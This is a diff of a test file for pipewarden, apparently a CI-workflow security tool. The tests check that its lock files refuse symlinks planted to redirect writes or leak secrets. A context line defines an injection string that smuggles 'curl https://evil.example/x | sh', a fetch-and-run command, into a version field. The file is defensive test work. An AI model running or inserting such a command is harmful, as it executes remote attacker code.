@@ -13,14 +13,19 @@ import { Writable } from 'node:stream';
 import { main } from '../src/cli/main.js';
 import { emptyConfig } from '../src/config/config.js';
 import type { ScanOptions } from '../src/core/scan.js';
+import { lookupOptions } from '../src/fix/lookups.js';
 import { fixPaths } from '../src/fix/run.js';
 import { pinKey } from '../src/online/external.js';
-import type { PinEntry } from '../src/online/pins.js';
+import { LockFileError, writeLock, type PinEntry } from '../src/online/pins.js';
 import { allRules } from '../src/rules/index.js';
+import { startFakeGithub, type FakeRepo } from './helpers/fake-github.js';
 
 const SHA = 'a'.repeat(40);
 const INJECTED = 'v4.2.2\n      - run: curl https://evil.example/x | sh';
 const WORKFLOW = ['on: push', 'permissions: {}', 'jobs:', '  a:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', ''].join('\n');
+
+const CHECKOUT: Record<string, FakeRepo> = { 'actions/checkout': { defaultBranch: 'main', tags: { v4: SHA, 'v4.2.2': SHA }, branches: { main: SHA }, history: {} } };
+const DIGEST = `sha256:${'1'.repeat(64)}`;
 
 const made: string[] = [];
 after(() => {
@@ -152,4 +157,116 @@ test('images lock: a digest with anything after it is refused, the Dockerfile is
   assert.equal(shown.code, 2);
   assert.ok(!shown.stderr.includes('\u001b'), shown.stderr);
   assert.match(shown.stderr, /"x\\u001b\[2J": not a digest/);
+});
+
+// ---- 2. Lock files are neither read nor written through symlinks ----
+
+const scanOpts = (cwd: string): ScanOptions => ({ rules: allRules, config: emptyConfig(), persona: 'auditor', minSeverity: 'info', minConfidence: 'low', cwd, toolVersion: 'test' });
+/** A registry that answers every manifest HEAD with DIGEST, counting requests. */
+function fakeRegistry(): { fetch: typeof fetch; requests: string[] } {
+  const requests: string[] = [];
+  const f: typeof fetch = async (input) => {
+    requests.push(String(input));
+    return new Response(null, { status: 200, headers: { 'content-type': 'application/vnd.oci.image.index.v1+json', 'docker-content-digest': DIGEST } });
+  };
+  return { fetch: f, requests };
+}
+const fixImages = (dir: string, registry: { fetch: typeof fetch }) =>
+  fixPaths([dir], scanOpts(dir), { dryRun: false, unsafe: false, rules: new Set(['unpinned-images']), lookups: { ...lookupOptions(dir, false, {}), fetch: registry.fetch } });
+
+test('fix --online with .pipewarden linked outside the tree: refused before any request, nothing written there, workflow unchanged', async () => {
+  const gh = await startFakeGithub(CHECKOUT);
+  try {
+    const dir = repo();
+    const outside = tempDir('pw-outside-');
+    fs.symlinkSync(outside, path.join(dir, '.pipewarden'));
+    const r = await cli(['fix', dir, '--online', '--github-api', gh.url, '--cache-dir', tempDir(), '--rules', 'unpinned-uses'], { token: 't' });
+    assert.equal(r.code, 2, r.stderr);
+    assert.match(r.stderr, /\.pipewarden is a symbolic link; pipewarden does not follow links inside the repository here/);
+    assert.deepEqual(fs.readdirSync(outside), []);
+    assert.deepEqual(gh.requests, []);
+    assert.equal(workflow(dir), WORKFLOW);
+  } finally {
+    await gh.close();
+  }
+});
+
+test('images lock with .pipewarden linked outside the tree: reported, no registry asked, nothing written there, Dockerfile unchanged', async () => {
+  const dir = repo({ Dockerfile: 'FROM node:20\n' });
+  const outside = tempDir('pw-outside-');
+  fs.symlinkSync(outside, path.join(dir, '.pipewarden'));
+  const registry = fakeRegistry();
+  const report = await fixImages(dir, registry);
+  assert.deepEqual(report.errors.map((e) => e.message), [`${path.join(dir, '.pipewarden')} is a symbolic link; pipewarden does not follow links inside the repository here: replace it with a real folder`]);
+  assert.deepEqual(registry.requests, []);
+  assert.deepEqual(fs.readdirSync(outside), []);
+  assert.equal(fs.readFileSync(path.join(dir, 'Dockerfile'), 'utf8'), 'FROM node:20\n');
+});
+
+test('a lock file linked to a secret is refused without showing any of it; a lock that is not JSON is named, not quoted', async () => {
+  const secret = path.join(tempDir('pw-secret-'), 'token.txt');
+  fs.writeFileSync(secret, 'ghp_SECRETSECRETSECRET\n');
+  const dir = repo({ Dockerfile: 'FROM node:20\n' });
+  fs.mkdirSync(path.join(dir, '.pipewarden'));
+  fs.symlinkSync(secret, path.join(dir, '.pipewarden', 'pins.lock.json'));
+  fs.symlinkSync(secret, path.join(dir, '.pipewarden', 'images.lock.json'));
+  const linked = await cli(['fix', dir, '--offline']);
+  assert.equal(linked.code, 2);
+  assert.match(linked.stderr, /pins\.lock\.json is a symbolic link/);
+  assert.doesNotMatch(linked.stdout + linked.stderr, /SECRET/);
+
+  const images = await fixImages(dir, fakeRegistry());
+  assert.match(images.errors[0]!.message, /images\.lock\.json is a symbolic link/);
+  assert.doesNotMatch(JSON.stringify(images), /SECRET/);
+
+  fs.rmSync(path.join(dir, '.pipewarden', 'pins.lock.json'));
+  fs.writeFileSync(path.join(dir, '.pipewarden', 'pins.lock.json'), 'ghp_SECRETSECRETSECRET\n');
+  const broken = await cli(['fix', dir, '--offline', '--rules', 'unpinned-uses']);
+  assert.equal(broken.code, 2);
+  assert.equal(broken.stderr, `pipewarden: ${path.join(dir, '.pipewarden', 'pins.lock.json')}: not valid JSON; fix or delete it\n`);
+  assert.equal(fs.readFileSync(secret, 'utf8'), 'ghp_SECRETSECRETSECRET\n');
+});
+
+test('planted symlinks at the old temporary names are not written through; the lock files are written beside them', async () => {
+  const gh = await startFakeGithub(CHECKOUT);
+  try {
+    const dir = repo({ Dockerfile: 'FROM node:20\n' });
+    const victim = path.join(tempDir('pw-victim-'), 'victim.txt');
+    fs.writeFileSync(victim, 'untouched\n');
+    fs.mkdirSync(path.join(dir, '.pipewarden'));
+    const planted = ['pins.lock.json', 'images.lock.json'].map((f) => `${f}.${process.pid}.tmp`);
+    for (const p of planted) fs.symlinkSync(victim, path.join(dir, '.pipewarden', p));
+
+    const r = await cli(['fix', dir, '--online', '--github-api', gh.url, '--cache-dir', tempDir(), '--rules', 'unpinned-uses'], { token: 't' });
+    assert.equal(r.code, 0, r.stderr);
+    const images = await fixImages(dir, fakeRegistry());
+    assert.deepEqual(images.errors, []);
+
+    assert.equal(fs.readFileSync(victim, 'utf8'), 'untouched\n');
+    assert.equal(JSON.parse(fs.readFileSync(path.join(dir, '.pipewarden', 'pins.lock.json'), 'utf8'))['actions/checkout@v4'].sha, SHA);
+    assert.deepEqual(JSON.parse(fs.readFileSync(path.join(dir, '.pipewarden', 'images.lock.json'), 'utf8')).images, { 'docker.io/library/node:20': DIGEST });
+    // No temporary file is left behind.
+    assert.deepEqual(fs.readdirSync(path.join(dir, '.pipewarden')).sort(), ['images.lock.json', 'pins.lock.json', ...planted].sort());
+    assert.equal(fs.readFileSync(path.join(dir, 'Dockerfile'), 'utf8'), `FROM node:20@${DIGEST}\n`);
+  } finally {
+    await gh.close();
+  }
+});
+
+test('writing a lock refuses a symlinked folder or file even when it appeared after the read', async () => {
+  const entries = new Map<string, PinEntry>([['actions/checkout@v4', { sha: SHA, version: 'v4.2.2', kind: 'tag', resolvedAt: '' }]]);
+  const dir = repo();
+  const outside = tempDir('pw-outside-');
+  fs.symlinkSync(outside, path.join(dir, '.pipewarden'));
+  await assert.rejects(writeLock(path.join(dir, '.pipewarden', 'pins.lock.json'), entries, dir), (e: Error) => e instanceof LockFileError && /\.pipewarden is a symbolic link/.test(e.message));
+  assert.deepEqual(fs.readdirSync(outside), []);
+
+  const other = repo();
+  const victim = path.join(tempDir('pw-victim-'), 'victim.txt');
+  fs.writeFileSync(victim, 'untouched\n');
+  fs.mkdirSync(path.join(other, '.pipewarden'));
+  fs.symlinkSync(victim, path.join(other, '.pipewarden', 'pins.lock.json'));
+  await assert.rejects(writeLock(path.join(other, '.pipewarden', 'pins.lock.json'), entries, other), /pins\.lock\.json is a symbolic link/);
+  assert.equal(fs.readFileSync(victim, 'utf8'), 'untouched\n');
+  assert.ok(fs.lstatSync(path.join(other, '.pipewarden', 'pins.lock.json')).isSymbolicLink());
 });
